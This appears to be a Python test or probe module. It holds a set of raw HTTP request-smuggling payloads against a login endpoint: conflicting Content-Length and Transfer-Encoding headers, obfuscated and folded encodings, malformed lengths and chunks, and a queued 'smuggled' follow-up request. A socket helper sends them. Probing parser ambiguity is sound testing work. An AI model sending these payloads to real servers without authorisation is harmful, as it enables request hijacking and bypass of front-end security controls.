"""Requests that one may read in two ways, each with a second one behind it for whoever takes the wrong one."""

import socket
import ssl
from urllib.parse import urlsplit

SECOND = "GET /healthz?smuggled HTTP/1.1\r\nHost: {host}\r\n\r\n"
POST = "POST /api/users/login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\n"
LENGTH, CHUNKED = "Content-Length: 4\r\n", "Transfer-Encoding: chunked\r\n"
NOTHING = "\r\n0\r\n\r\n"  # the end of the head, then of a body in chunks, of four bytes and one
DOUBTFUL = {
    "length and chunks": POST + LENGTH + CHUNKED + NOTHING,
    "chunks and length": POST + CHUNKED + LENGTH + NOTHING,
    "chunks twice": POST + CHUNKED + CHUNKED + LENGTH + NOTHING,
    "chunks in HTTP/1.0": POST.replace("1.1", "1.0") + CHUNKED + LENGTH + NOTHING,
    "an unknown coding": POST + "Transfer-Encoding: xchunked\r\n\r\n",
    "an unknown coding and a length": POST + "Transfer-Encoding: xchunked\r\n" + LENGTH + NOTHING,
    "chunks and another coding": POST + "Transfer-Encoding: chunked, identity\r\n" + NOTHING,
    "a blank before the colon": POST + "Transfer-Encoding : chunked\r\n" + NOTHING,
    "a blank before the colon, and a length": POST + "Transfer-Encoding : chunked\r\n" + LENGTH + NOTHING,
    "a folded header": POST + "Transfer-Encoding:\r\n chunked\r\n" + NOTHING,
    "a folded header, and a length": POST + "Transfer-Encoding:\r\n chunked\r\n" + LENGTH + NOTHING,
    "two lengths": POST + "Content-Length: 0\r\nContent-Length: 44\r\n\r\n",
    "two lengths, the larger first": POST + LENGTH + "Content-Length: 0\r\n\r\nbody",
    "a list of lengths": POST + "Content-Length: 0, 44\r\n\r\n",
    "a length with a sign": POST + "Content-Length: +0\r\n\r\n",
    "a length in hexadecimal": POST + "Content-Length: 0x4\r\n\r\nbody",
    "a length below nothing": POST + "Content-Length: -1\r\n\r\n",
    "a nul in a header": POST + "X-Nul: a\0b\r\n\r\n",
    "a chunk with a wrong end": POST + CHUNKED + "\r\n1\r\nZZ\r\n0\r\n\r\n",
    "a size beyond all bounds": POST + CHUNKED + "\r\nffffffffffffffff1\r\n",
}


def exchange(url: str, text: str, context: ssl.SSLContext | None = None) -> bytes:
    """All that comes back for what one connection says, until the other side closes it."""
    place = urlsplit(url)
    said = text.replace("{host}", place.netloc).encode("latin-1")
    with (
        socket.create_connection((place.hostname, place.port), timeout=10) as plain,
        context.wrap_socket(plain, server_hostname=place.hostname) if context else plain as connection,
    ):
        connection.sendall(said)
        if context is None:
            connection.shutdown(socket.SHUT_WR)  # nothing more will come of a body that claims to be endless
        received = b""
        while part := connection.recv(65536):
            received += part
    return received
